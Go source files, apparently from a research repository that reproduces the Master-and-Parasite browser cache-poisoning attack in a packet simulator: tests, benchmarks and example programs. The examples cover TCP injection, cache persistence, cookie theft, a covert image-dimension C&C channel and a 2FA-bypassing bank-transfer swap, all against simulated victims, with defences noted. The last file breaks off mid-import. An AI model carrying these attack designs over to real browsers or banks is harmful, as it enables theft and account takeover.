// TestGoldenNarration locks the kill-chain narration byte-for-byte: the
// demo drives a fixed scenario through the packet simulator, so its
// output is deterministic and any behaviour drift in the attack stages
// shows up as a golden diff.
func TestGoldenNarration(t *testing.T) {
	want, err := os.ReadFile(filepath.Join("testdata", "golden-narration.txt"))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := run(nil, &out); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out.Bytes(), want) {
		t.Fatalf("narration diverged from testdata/golden-narration.txt\ngot:\n%s\nwant:\n%s", out.Bytes(), want)
	}
}

// TestNarrationIsDeterministic runs the demo twice in one process and
// requires identical bytes — the property the golden file relies on.
func TestNarrationIsDeterministic(t *testing.T) {
	var a, b bytes.Buffer
	if err := run(nil, &a); err != nil {
		t.Fatal(err)
	}
	if err := run(nil, &b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatalf("two runs diverged:\n%s\nvs\n%s", a.Bytes(), b.Bytes())
	}
}

func TestUnknownProfileRejected(t *testing.T) {
	var out bytes.Buffer
	if err := run([]string{"-browser", "NetscapeNavigator"}, &out); err == nil {
		t.Fatal("unknown browser profile accepted")
	}
}
