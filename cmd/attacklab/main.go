// Command attacklab runs the full Master-and-Parasite kill chain in the
// packet simulator and narrates every stage: eviction, TCP injection,
// infection, propagation, persistence across networks, C&C and
// exfiltration.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	"masterparasite/internal/attacker"
	"masterparasite/internal/core"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "attacklab:", err)
		os.Exit(1)
	}
}

func run(args []string, stdout io.Writer) error {
	fs := flag.NewFlagSet("attacklab", flag.ContinueOnError)
	profile := fs.String("browser", "Chrome", "victim browser profile")
	if err := fs.Parse(args); err != nil {
		return err
	}

	s, err := core.NewScenario(core.Config{Profile: *profile})
	if err != nil {
		return err
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600"})
	for _, d := range []string{"top1.com", "top2.com"} {
		s.AddPage(d, "/", `<html><body><script src="/persistent.js"></script></body></html>`, nil)
		s.AddPage(d, "/persistent.js", "function lib(){}", map[string]string{"Cache-Control": "max-age=600"})
	}

	cfg := parasite.NewConfig("demo", "bot-demo", core.MasterHost)
	cfg.PropagationTargets = []string{"top1.com", "top2.com"}
	cfg.Modules["steal-cookies"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
		exfil("cookies", []byte(env.PageHost()+": "+env.Cookies(env.PageHost())))
		return nil
	}
	s.Registry.Add(cfg)
	for _, name := range []string{"somesite.com/my.js", "top1.com/persistent.js", "top2.com/persistent.js"} {
		s.Master.AddTarget(attacker.Target{Name: name, Kind: attacker.KindJS,
			ParasitePayload: "demo", Original: []byte("function original(){}")})
	}

	fmt.Fprintf(stdout, "victim: %s on public WiFi; master tapping the segment\n\n", s.Victim.Profile.UserAgent())

	fmt.Fprintln(stdout, "[1] victim visits somesite.com — master injects the parasite (Fig. 2)")
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		return err
	}
	fmt.Fprintf(stdout, "    injections: %d, infected origins: %v\n\n",
		s.Master.Stats().Injections, s.Registry.InfectedOrigins("bot-demo"))

	fmt.Fprintln(stdout, "[2] victim moves to the home network — master off-path")
	s.LeaveAttackerNetwork()
	s.Victim.Cookies().Set("top1.com", "session", "s3cr3t-token")

	fmt.Fprintln(stdout, "[3] master queues a command through the covert channel (Fig. 4)")
	s.CNC.QueueCommand("bot-demo", []byte("steal-cookies|"))

	fmt.Fprintln(stdout, "[4] victim visits top1.com — parasite executes from cache")
	page, err := s.Visit("top1.com", "/")
	if err != nil {
		return err
	}
	infected := false
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			infected = true
		}
	}
	fmt.Fprintf(stdout, "    parasite executed from cache: %v\n", infected)

	loot, ok := s.CNC.Upload("bot-demo", "cookies")
	if !ok {
		return fmt.Errorf("no exfiltrated data arrived at the master")
	}
	fmt.Fprintf(stdout, "\n[5] master received exfiltrated loot: %q\n", loot)
	fmt.Fprintf(stdout, "\nparasite registry: polls=%d commands=%d anchors=%d\n",
		s.Registry.Polls(), s.Registry.Commands(), s.Registry.Anchors())
	return nil
}
