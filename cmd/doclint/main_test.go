package main

import (
	"os"
	"path/filepath"
	"testing"
)

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestLintFindsUndocumentedPackages(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "good", "doc.go"), "// Package good is documented.\npackage good\n")
	write(t, filepath.Join(dir, "good", "other.go"), "package good\n")
	write(t, filepath.Join(dir, "bad", "a.go"), "package bad\n")
	write(t, filepath.Join(dir, "bad", "a_test.go"), "// Package bad docs on a test file do not count.\npackage bad\n")
	write(t, filepath.Join(dir, "testdata", "skip.go"), "package skipped\n")

	missing, err := lint([]string{dir})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{filepath.Join(dir, "bad")}
	if len(missing) != 1 || missing[0] != want[0] {
		t.Fatalf("missing = %v, want %v", missing, want)
	}
}

// TestRepoIsFullyDocumented is the satellite guarantee itself: every
// package in this repository carries a package doc comment.
func TestRepoIsFullyDocumented(t *testing.T) {
	missing, err := lint([]string{"../.."})
	if err != nil {
		t.Fatal(err)
	}
	if len(missing) > 0 {
		t.Fatalf("undocumented packages: %v", missing)
	}
}
