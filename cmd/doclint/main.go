// Command doclint enforces the repo's documentation floor: every
// package must carry a package doc comment. It parses the package
// clause of each non-test Go file under the given roots (default: the
// whole tree) and fails, listing the offenders, when a package has no
// doc comment on any of its files.
//
// Usage:
//
//	doclint [dir ...]
//
// Wired into `make ci` so a new package cannot land undocumented.
package main

import (
	"fmt"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

func main() {
	roots := os.Args[1:]
	if len(roots) == 0 {
		roots = []string{"."}
	}
	missing, err := lint(roots)
	if err != nil {
		fmt.Fprintln(os.Stderr, "doclint:", err)
		os.Exit(1)
	}
	if len(missing) > 0 {
		fmt.Fprintln(os.Stderr, "doclint: packages missing a package doc comment:")
		for _, dir := range missing {
			fmt.Fprintf(os.Stderr, "  %s\n", dir)
		}
		os.Exit(1)
	}
}

// lint returns the sorted directories whose package lacks a doc
// comment on every one of its non-test files.
func lint(roots []string) ([]string, error) {
	// dir → true once any file documents the package.
	documented := make(map[string]bool)
	seen := make(map[string]bool)
	fset := token.NewFileSet()
	for _, root := range roots {
		err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			name := d.Name()
			if d.IsDir() {
				if name == "testdata" || strings.HasPrefix(name, ".") && path != root {
					return filepath.SkipDir
				}
				return nil
			}
			if !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
				return nil
			}
			f, err := parser.ParseFile(fset, path, nil, parser.PackageClauseOnly|parser.ParseComments)
			if err != nil {
				return err
			}
			dir := filepath.Dir(path)
			seen[dir] = true
			if f.Doc != nil && strings.TrimSpace(f.Doc.Text()) != "" {
				documented[dir] = true
			}
			return nil
		})
		if err != nil {
			return nil, err
		}
	}
	var missing []string
	for dir := range seen {
		if !documented[dir] {
			missing = append(missing, dir)
		}
	}
	sort.Strings(missing)
	return missing, nil
}
