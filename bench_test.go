// Package masterparasite's root benchmark harness: one benchmark per
// table and figure of the paper (regenerating the artifact end to end
// through the internal/artifact registry), the design-choice ablations
// (reassembly policy, shared-cache isolation), and micro-benchmarks of
// the hot codecs.
//
//	go test -bench=. -benchmem
package masterparasite

import (
	"bytes"
	"context"
	"fmt"
	"testing"

	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/cnc"
	"masterparasite/internal/core"
	"masterparasite/internal/dom"
	_ "masterparasite/internal/experiments" // self-registers the paper's artifacts
	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/proxycache"
	"masterparasite/internal/runner"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
	"masterparasite/internal/webcorpus"
)

// benchPool is the scenario-fleet pool the per-artefact benchmarks run
// on: all available cores, matching cmd/experiments' default.
var benchPool = runner.New(0)

// benchSizes keeps the crawl-backed artifacts tractable per iteration.
var benchSizes = map[string]int{"sites": 400, "days": 20}

// runArtifact regenerates one registered artifact on the given pool.
func runArtifact(b *testing.B, pool *runner.Runner, id string, overrides map[string]int) {
	b.Helper()
	spec, ok := artifact.Get(id)
	if !ok {
		b.Fatalf("artifact %q not registered", id)
	}
	env, err := spec.NewEnv(pool, overrides)
	if err != nil {
		b.Fatal(err)
	}
	if _, err := spec.Exec(env); err != nil {
		b.Fatal(err)
	}
}

// --- the scenario-fleet engine: sequential vs parallel ----------------

// benchFleet regenerates the full deterministic artefact set (every
// table and figure except the wall-clock C&C run) on a pool of the
// given width. Comparing Fleet/seq with Fleet/par measures the
// end-to-end speedup of the concurrent scenario-fleet engine.
func benchFleet(b *testing.B, workers int) {
	b.Helper()
	for i := 0; i < b.N; i++ {
		pool := runner.New(workers)
		for _, spec := range artifact.Deterministic() {
			runArtifact(b, pool, spec.ID, benchSizes)
		}
	}
}

func BenchmarkFleet_Sequential(b *testing.B) { benchFleet(b, 1) }
func BenchmarkFleet_Parallel(b *testing.B)   { benchFleet(b, 0) }

// --- the sharded netsim fabric: shard workers 1 → 8 -------------------

// BenchmarkFleet_ShardedScaling drains one fixed 12 800-bot fleet
// topology (32 LAN shards × 400 victims) at 1, 2, 4, and 8 shard
// workers. Alongside wall-clock ns/op it reports the fabric's
// machine-independent work accounting: events/op (total simulated
// events — identical at every worker count, as determinism demands),
// boundary/op (frames crossing the uplink lookahead boundary), and
// cpath-events/op (the per-window critical path: the events the
// busiest shard must execute serially, floored by the worker share).
// cpath(1)/cpath(8) is the fabric's parallel slack — the speedup an
// ideally scheduled 8-core box extracts — and stays meaningful even
// when the benchmark host pins GOMAXPROCS to one core and flattens
// ns/op.
func BenchmarkFleet_ShardedScaling(b *testing.B) {
	for _, workers := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			var st netsim.RunStats
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				fleet, err := core.NewFleet(core.FleetConfig{LANs: 32, BotsPerLAN: 400, Seed: 10})
				if err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				if _, err := fleet.Run(workers); err != nil {
					b.Fatal(err)
				}
				st = fleet.Fabric().Stats()
			}
			b.ReportMetric(float64(st.Events), "events/op")
			b.ReportMetric(float64(st.CriticalPath), "cpath-events/op")
			b.ReportMetric(float64(st.Boundary), "boundary/op")
		})
	}
}

// --- one benchmark per table / figure ---------------------------------

func BenchmarkTableI_CacheEviction(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "table1", nil)
	}
}

func BenchmarkTableII_TCPInjection(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "table2", nil)
	}
}

func BenchmarkTableIII_Refresh(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "table3", nil)
	}
}

func BenchmarkTableIV_SharedCache(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "table4", nil)
	}
}

func BenchmarkTableV_Attacks(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "table5", nil)
	}
}

func BenchmarkFigure3_Persistency(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "fig3", benchSizes)
	}
}

func BenchmarkFigure5_CSPSurvey(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "fig5", map[string]int{"sites": 2000})
	}
}

func BenchmarkFigures124_MessageFlows(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "flows", nil)
	}
}

func BenchmarkCountermeasures(b *testing.B) {
	for i := 0; i < b.N; i++ {
		runArtifact(b, benchPool, "countermeasures", nil)
	}
}

// --- §VI-C covert channel throughput (the 100 KB/s claim) -------------

// cncPayloadSize is the command volume each C&C benchmark op moves; the
// sequential-vs-parallel pairs mirror the Fleet ones so the concurrency
// win stays measurable through refactors.
const cncPayloadSize = 16 * 1024

func benchCNCDownstream(b *testing.B, concurrency int) {
	b.Helper()
	master := cnc.NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		b.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	payload := bytes.Repeat([]byte("X"), cncPayloadSize)
	ctx := context.Background()
	// MB/s counts the true payload volume decoded per op — the command
	// bytes the covert images carry, not the ~25x larger SVG wire cost.
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		bot := &cnc.Bot{BaseURL: base, ID: fmt.Sprintf("b%d-%d", concurrency, i), Concurrency: concurrency}
		master.QueueCommand(bot.ID, payload)
		got, _, ok, err := bot.Poll(ctx)
		if err != nil || !ok || !bytes.Equal(got, payload) {
			b.Fatalf("poll: ok=%v err=%v", ok, err)
		}
	}
}

func BenchmarkCNC_Downstream(b *testing.B)           { benchCNCDownstream(b, 16) }
func BenchmarkCNC_DownstreamSequential(b *testing.B) { benchCNCDownstream(b, 1) }

func benchCNCUpstream(b *testing.B, concurrency int) {
	b.Helper()
	master := cnc.NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		b.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	payload := bytes.Repeat([]byte("X"), cncPayloadSize)
	ctx := context.Background()
	// MB/s counts the exfiltrated payload bytes per op, excluding the
	// base64 URL expansion.
	b.SetBytes(int64(len(payload)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		bot := &cnc.Bot{BaseURL: base, ID: fmt.Sprintf("up%d-%d", concurrency, i), Concurrency: concurrency}
		if err := bot.Upload(ctx, "s", payload); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCNC_Upstream(b *testing.B)           { benchCNCUpstream(b, 16) }
func BenchmarkCNC_UpstreamSequential(b *testing.B) { benchCNCUpstream(b, 1) }

// --- design-choice ablations -------------------------------------------

// killChain runs one full infection and returns whether it succeeded.
func killChain(b *testing.B, cfg core.Config) bool {
	b.Helper()
	s, err := core.NewScenario(cfg)
	if err != nil {
		b.Fatal(err)
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600"})
	pcfg := parasite.NewConfig("bb", "bot-bb", core.MasterHost)
	pcfg.Propagate = false
	s.Registry.Add(pcfg)
	s.Master.AddTarget(attacker.Target{Name: "somesite.com/my.js", Kind: attacker.KindJS,
		ParasitePayload: "bb", Original: []byte("o")})
	page, err := s.Visit("somesite.com", "/")
	if err != nil || len(page.Scripts) == 0 {
		return false
	}
	return script.Infected(page.Scripts[0].Content)
}

func BenchmarkAblation_FirstWinsInjection(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if !killChain(b, core.Config{Seed: int64(i + 1)}) {
			b.Fatal("injection failed under first-wins")
		}
	}
}

func BenchmarkAblation_LastWinsInjection(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if !killChain(b, core.Config{Seed: int64(i + 1), ReassemblyPolicy: tcpsim.LastWins}) {
			b.Fatal("injection failed under last-wins")
		}
	}
}

func BenchmarkAblation_SharedCacheIsolationCost(b *testing.B) {
	infected := httpsim.NewResponse(200, script.Embed([]byte("x"), "parasite", "p"))
	infected.Header.Set("Cache-Control", httpcache.MaxFreshness)
	b.Run("shared", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			cache := proxycache.NewSharedCache("squid", 1<<20, false, nil)
			proxycache.RunInfection(cache, infected, 32)
		}
	})
	b.Run("isolated", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			cache := proxycache.NewSharedCache("squid", 1<<20, true, nil)
			proxycache.RunInfection(cache, infected, 32)
		}
	})
}

// --- micro-benchmarks on the hot codecs --------------------------------

func BenchmarkCodec_DimsEncodeDecode(b *testing.B) {
	msg := bytes.Repeat([]byte("m"), 1024)
	b.SetBytes(int64(len(msg)))
	for i := 0; i < b.N; i++ {
		dims := cnc.EncodeDims(msg)
		if _, err := cnc.DecodeDims(dims); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCodec_SVGRoundTrip(b *testing.B) {
	d := cnc.Dim{W: 513, H: 65535}
	for i := 0; i < b.N; i++ {
		if _, err := cnc.ParseSVG(cnc.RenderSVG(d)); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCodec_URLChunks(b *testing.B) {
	data := bytes.Repeat([]byte("d"), 8192)
	b.SetBytes(int64(len(data)))
	for i := 0; i < b.N; i++ {
		chunks := cnc.EncodeURLChunks(data, 1024)
		for _, c := range chunks {
			if _, err := cnc.DecodeURLChunk(c); err != nil {
				b.Fatal(err)
			}
		}
	}
}

func BenchmarkHTTPSim_MessageRoundTrip(b *testing.B) {
	resp := httpsim.NewResponse(200, bytes.Repeat([]byte("b"), 4096))
	resp.Header.Set("Cache-Control", "max-age=60")
	wire := resp.Marshal()
	b.SetBytes(int64(len(wire)))
	for i := 0; i < b.N; i++ {
		if _, _, err := httpsim.ParseResponse(wire); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkTCPSim_SegmentMarshal(b *testing.B) {
	seg := tcpsim.Segment{SrcPort: 50000, DstPort: 80, Seq: 1000, Ack: 2000,
		Flags: tcpsim.FlagACK | tcpsim.FlagPSH, Payload: bytes.Repeat([]byte("p"), 1460)}
	b.SetBytes(int64(len(seg.Payload)))
	for i := 0; i < b.N; i++ {
		wire := seg.Marshal()
		if _, err := tcpsim.ParseSegment(wire); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCache_PutGetEvict(b *testing.B) {
	body := bytes.Repeat([]byte("c"), 2048)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		store := httpcache.NewStore(httpcache.Options{Capacity: 64 * 1024})
		for j := 0; j < 64; j++ {
			resp := httpsim.NewResponse(200, body)
			resp.Header.Set("Cache-Control", "max-age=60")
			url := fmt.Sprintf("d.com/o%d", j)
			store.Put("", httpcache.EntryFromResponse(0, url, "d.com", resp))
			store.Get("", url)
		}
	}
}

func BenchmarkDOM_ParseHTML(b *testing.B) {
	site := webcorpus.Generate(webcorpus.Params{Sites: 1, Seed: 3}).Sites[0]
	page := site.RenderPage(0).Body
	b.SetBytes(int64(len(page)))
	for i := 0; i < b.N; i++ {
		doc := dom.ParseHTML("x", page)
		if doc == nil {
			b.Fatal("nil doc")
		}
	}
}

func BenchmarkCrawl_OneSiteDay(b *testing.B) {
	corpus := webcorpus.Generate(webcorpus.Params{Sites: 100, Seed: 5})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s := corpus.Sites[i%len(corpus.Sites)]
		if resp := s.RenderPage(i % 100); resp == nil {
			b.Fatal("nil page")
		}
	}
}

func BenchmarkSeal_XORRoundTrip(b *testing.B) {
	sealer := httpsim.XORSealer{Key: httpsim.HostKey("bank.com")}
	msg := bytes.Repeat([]byte("m"), 4096)
	b.SetBytes(int64(len(msg)))
	for i := 0; i < b.N; i++ {
		sealed := sealer.Seal(msg)
		if _, _, err := sealer.Open(sealed); err != nil {
			b.Fatal(err)
		}
	}
}
