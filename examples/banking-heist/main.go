// Banking heist: the Table V "circumvent two-factor authentication"
// attack end to end.
//
// The victim's bank uses OTP-confirmed transfers. The parasite (delivered
// earlier over an insecure WiFi) manipulates the submitted transfer to
// the attacker's account while showing the user their own, and rewrites
// the confirmation screen — so the user's own OTP authorises the
// attacker's transaction. No out-of-band confirmation exists, which is
// exactly the requirement the paper states for this attack.
//
//	go run ./examples/banking-heist
package main

import (
	"fmt"
	"log"

	"masterparasite/internal/apps"
	"masterparasite/internal/attacker"
	"masterparasite/internal/attacks"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/dom"
	"masterparasite/internal/parasite"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	s, err := core.NewScenario(core.Config{Profile: "Chrome"})
	if err != nil {
		return err
	}
	bank := apps.NewBank("bank.example")
	s.AddHandler(bank.Host, bank.Handler())

	strain := parasite.NewConfig("heist", "bot-h", core.MasterHost)
	strain.Propagate = false
	attacks.Install(strain)
	s.Registry.Add(strain)
	s.Master.AddTarget(attacker.Target{
		Name: "bank.example/js/bank.js", Kind: attacker.KindJS,
		ParasitePayload: "heist", Original: []byte("function bankApp(){}"),
	})

	wire := func(p *browser.Page) { bank.Wire(p, nil) }
	submit := func(p *browser.Page, form string, values map[string]string) error {
		el := p.Doc.FindByID(form)
		if el == nil {
			return fmt.Errorf("no form %s", form)
		}
		for k, v := range values {
			dom.SetFormValue(el, k, v)
		}
		_, _, err := p.Doc.Submit(form)
		return err
	}

	// The user logs in at the bank (the infection happens on this visit:
	// the master is on-path and poisons /js/bank.js).
	page, err := s.VisitWired(bank.Host, "/", wire)
	if err != nil {
		return err
	}
	if err := submit(page, "login", map[string]string{"user": "alice", "pass": "hunter2"}); err != nil {
		return err
	}
	s.Run()
	fmt.Println("[1] alice logged in; bank.js infected in her cache")

	// Later — at home, attacker off-path — the master orders the heist.
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-h", []byte("transaction-manipulation|iban=XX99 ATTACKER,amount=9500"))

	// Alice transfers 50 EUR to grandma.
	page, err = s.VisitWired(bank.Host, "/", wire)
	if err != nil {
		return err
	}
	if err := submit(page, "transfer", map[string]string{"iban": "DE22 GRANDMA", "amount": "50"}); err != nil {
		return err
	}
	s.Run()
	fmt.Println("[2] alice submitted: 50 EUR to DE22 GRANDMA")
	fmt.Println("    bank received:  9500 EUR to XX99 ATTACKER (values swapped on submit)")

	// The confirmation screen: the parasite rewrites the displayed
	// details so alice sees her intended transfer.
	s.CNC.QueueCommand("bot-h", []byte("bypass-2fa|Transfer 50 EUR to DE22 GRANDMA"))
	confirm, err := s.VisitWired(bank.Host, "/confirm", wire)
	if err != nil {
		return err
	}
	details := confirm.Doc.FindByID("pending-details")
	fmt.Printf("[3] alice's screen shows: %q\n", details.TextContent())

	// Reassured, she enters her OTP.
	if err := submit(confirm, "otp", map[string]string{"code": "123456"}); err != nil {
		return err
	}
	s.Run()

	if len(bank.Transfers) == 0 {
		return fmt.Errorf("no transfer committed")
	}
	tx := bank.Transfers[0]
	fmt.Printf("[4] bank executed: %d EUR to %s (authorized=%v)\n", tx.Amount, tx.ToIBAN, tx.Authorized)
	fmt.Printf("    alice's balance: %d EUR\n", bank.Accounts["alice"].Balance)
	fmt.Println("\ndefence (§VII): out-of-band transaction detail confirmation on a second device")
	return nil
}
