// Quickstart: the smallest end-to-end Master-and-Parasite run.
//
// One victim browser on a public WiFi, one target website, one armed
// master. We infect the site's persistent script, leave the network and
// show the parasite still executing from cache.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"masterparasite/internal/attacker"
	"masterparasite/internal/core"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
)

func main() {
	// 1. Assemble the laboratory: victim + master on "public-wifi",
	//    servers across the uplink.
	s, err := core.NewScenario(core.Config{Profile: "Chrome"})
	if err != nil {
		log.Fatal(err)
	}

	// 2. A website with a persistent script (the infection target).
	s.AddPage("news.example", "/", `<html><body><script src="/js/site.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("news.example", "/js/site.js", "function render(){}",
		map[string]string{"Cache-Control": "max-age=3600"})

	// 3. Arm the master: one parasite strain, one target object.
	strain := parasite.NewConfig("quick", "bot-1", core.MasterHost)
	strain.Propagate = false
	s.Registry.Add(strain)
	s.Master.AddTarget(attacker.Target{
		Name:            "news.example/js/site.js",
		Kind:            attacker.KindJS,
		ParasitePayload: "quick",
		Original:        []byte("function render(){}"),
	})

	// 4. The victim browses; the master races the server and wins.
	page, err := s.Visit("news.example", "/")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("first visit:  script infected = %v (injections: %d)\n",
		script.Infected(page.Scripts[0].Content), s.Master.Stats().Injections)

	// 5. The victim goes home. The master is no longer on-path.
	s.LeaveAttackerNetwork()

	// 6. The parasite persists: it executes from the cache on every
	//    later visit, with no attacker anywhere near the victim.
	page2, err := s.Visit("news.example", "/")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("after moving: script infected = %v (served from cache, master off-path)\n",
		script.Infected(page2.Scripts[0].Content))
	fmt.Printf("cache-API anchors: %d — survives Ctrl+F5 and cache clearing (Table III)\n",
		s.Victim.CacheAPI().Len())
}
