// Shared-cache propagation: the §VI-B2 "propagation between devices"
// result across the Table IV device taxonomy.
//
// One client behind a shared network cache (Squid, a web filter, a CDN
// edge) receives an injected object; the cache stores it; every other
// client behind the same cache is served the parasite with no attacker
// anywhere near them. Per-client isolation contains the infection at a
// measurable origin-fetch cost.
//
//	go run ./examples/shared-cache
package main

import (
	"fmt"

	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/proxycache"
	"masterparasite/internal/script"
)

func main() {
	infected := httpsim.NewResponse(200,
		script.Embed([]byte("function lib(){}"), "parasite", "shared"))
	infected.Header.Set("Cache-Control", httpcache.MaxFreshness)

	const clients = 12
	fmt.Printf("%-30s %-6s %-9s %-14s\n", "device", "HTTP", "infected", "origin fetches")
	for _, dev := range proxycache.Devices() {
		if !dev.Shared || !dev.HTTP.Vulnerable() {
			continue
		}
		cache := proxycache.NewSharedCache(dev.Instance, 1<<20, false, nil)
		res := proxycache.RunInfection(cache, infected, clients)
		fmt.Printf("%-30s %-6s %2d/%-6d %-14d\n",
			dev.Instance, dev.HTTP.Symbol(), res.VictimsServed, clients, res.OriginFetches)
	}

	// The countermeasure: per-client isolation. The infection is
	// contained, but every client now costs an origin round trip — "which
	// however would harm performance" (§VI-B2).
	fmt.Println()
	isolated := proxycache.NewSharedCache("squid (per-client isolation)", 1<<20, true, nil)
	res := proxycache.RunInfection(isolated, infected, clients)
	fmt.Printf("%-30s %-6s %2d/%-6d %-14d  <- contained, at a performance cost\n",
		isolated.Name(), "●", res.VictimsServed, clients, res.OriginFetches)
}
