// Covert channel: the §VI-C image-dimension C&C over a real HTTP socket.
//
// The master encodes a command into SVG image dimensions (4 bytes per
// image, clamped at 65,535 per axis); the bot fetches the images — with
// and without concurrency — and decodes the command; exfiltration flows
// back through URL-encoded GET requests. The run reports throughput and
// shows why the paper's 100 KB/s figure needs simultaneous requests.
//
//	go run ./examples/covert-channel
package main

import (
	"bytes"
	"context"
	"fmt"
	"log"
	"time"

	"masterparasite/internal/cnc"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	master := cnc.NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		return err
	}
	defer func() { _ = shutdown() }()
	fmt.Printf("master on %s\n\n", base)

	// Show the encoding itself.
	cmd := []byte("steal-login|bank.example")
	dims := cnc.EncodeDims(cmd)
	fmt.Printf("command %q -> %d SVG images (4 bytes each):\n", cmd, len(dims))
	for i, d := range dims[:3] {
		fmt.Printf("  img %d: %4d x %-5d  %s\n", i, d.W, d.H, cnc.RenderSVG(d))
	}
	fmt.Println("  ...")

	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	payload := bytes.Repeat([]byte("X"), 128*1024)
	for _, conc := range []int{1, 4, 16} {
		bot := &cnc.Bot{BaseURL: base, ID: fmt.Sprintf("bot-%d", conc), Concurrency: conc}
		master.QueueCommand(bot.ID, payload)
		start := time.Now()
		got, _, ok, err := bot.Poll(ctx)
		if err != nil || !ok || !bytes.Equal(got, payload) {
			return fmt.Errorf("poll conc=%d failed: %v", conc, err)
		}
		rate := float64(len(payload)) / time.Since(start).Seconds() / 1024
		fmt.Printf("downstream %3d concurrent fetches: %8.1f KB/s\n", conc, rate)
	}

	bot := &cnc.Bot{BaseURL: base, ID: "bot-up", Concurrency: 16}
	start := time.Now()
	if err := bot.Upload(ctx, "exfil", payload); err != nil {
		return err
	}
	rate := float64(len(payload)) / time.Since(start).Seconds() / 1024
	fmt.Printf("upstream (URL-encoded):            %8.1f KB/s\n", rate)
	fmt.Println("\npaper: ≈100 KB/s downstream with simultaneous image requests;")
	fmt.Println("upstream has no comparable bandwidth limitation (§VI-C)")
	return nil
}
