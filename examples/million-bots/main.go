// Million-bots: drive a 10⁵-bot fleet through the sharded netsim and
// prove the scaling story's two halves — byte-identical output at any
// shard worker count, and a critical path far below the total work.
//
// We render the fleet/infection-curve artifact for a 100 032-bot fleet
// (64 LAN shards × 1563 victims) twice — `-parallel 1` and
// `-parallel 8` — and diff the run manifests: the SHA-256 fingerprints
// must coincide, which is the determinism contract of the conservative
// time-window protocol (docs/SCALING.md). Then we drain the same
// topology directly through core.NewFleet and read Fabric.Stats(): the
// per-window critical path is the machine-independent speedup a
// multi-core box extracts, even when the box running this example has
// one core. Finally we print the curve itself — the paper's kill chain
// at population scale.
//
//	go run ./examples/million-bots
package main

import (
	"fmt"
	"log"

	"masterparasite/internal/artifact"
	"masterparasite/internal/core"
